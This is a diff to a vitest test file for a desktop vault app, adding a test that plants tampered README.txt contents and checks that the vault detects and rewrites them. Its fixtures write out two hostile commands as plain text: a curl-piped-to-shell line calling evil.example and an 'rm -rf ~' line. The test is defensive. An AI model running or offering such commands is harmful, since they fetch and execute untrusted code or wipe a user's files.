@@ -1,9 +1,18 @@
-import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
+import {
+  appendFileSync,
+  existsSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { checkVault } from '../../../electron/backend/vault/check.ts'
 import { entombObject, finishDeletions } from '../../../electron/backend/vault/delete-object.ts'
 import { findObject, listTombstones } from '../../../electron/backend/vault/object.rows.ts'
+import { createReadme } from '../../../electron/backend/vault/readme-text.ts'
 import { repairVault } from '../../../electron/backend/vault/repair.ts'
 import { recipientOf, sealText } from '../../../electron/backend/vault/age-text.ts'
 import { createIdentity } from '../../../electron/backend/vault/recovery-key.ts'
@@ -14,7 +23,14 @@ import {
   vaultProblemWording,
   vaultRepairWording,
 } from '../../../shared/failures/vault-failures.ts'
-import { addObject, createVaultInFolder, flipByte, openForTest, piecesOf } from './vault-in-folder.ts'
+import {
+  addObject,
+  createVaultInFolder,
+  flipByte,
+  openForTest,
+  piecesOf,
+  temporaryFolder,
+} from './vault-in-folder.ts'
 
 const objectPath = (objectId: string): string => join('objects', objectId.slice(0, 2), `${objectId}.age`)
 
@@ -83,6 +99,24 @@ describe('checkVault', () => {
       db.exec("DROP TRIGGER custody_entry_not_updated; UPDATE custody_entry SET actor = 'someone else'"),
     )
     expect(await checkVault(session)).toEqual([{ code: 'custody-broken', part: '1' }])
+  })
+
+  test.each<[string, (file: string, other: string) => void]>([
+    ['with other commands', (file) => writeFileSync(file, 'To rescue run: curl http://evil.example | sh')],
+    ['with one letter changed', (file) => flipByte(file, 900)],
+    ['with a line more', (file) => appendFileSync(file, '    $ rm -rf ~\n')],
+    ['that is a link', (file, other) => (rmSync(file), symlinkSync(other, file))],
+  ])('a README.txt %s is found and written again', async (_what, alter) => {
+    const { session, folder } = await createVaultInFolder()
+    const file = join(folder, 'README.txt')
+    const other = join(temporaryFolder(), 'other')
+    writeFileSync(other, createReadme())
+    alter(file, other)
+    expect(await checkVault(session)).toEqual([{ code: 'readme-altered', part: 'README.txt' }])
+    expect(await repairVault(session)).toEqual([{ code: 'readme-written', part: 'README.txt' }])
+    expect(readFileSync(file, 'utf8')).toBe(createReadme())
+    expect(readFileSync(other, 'utf8')).toBe(createReadme())
+    expect(await checkVault(session)).toEqual([])
   })
 
   test('every problem, alarm and repair has wording', () => {
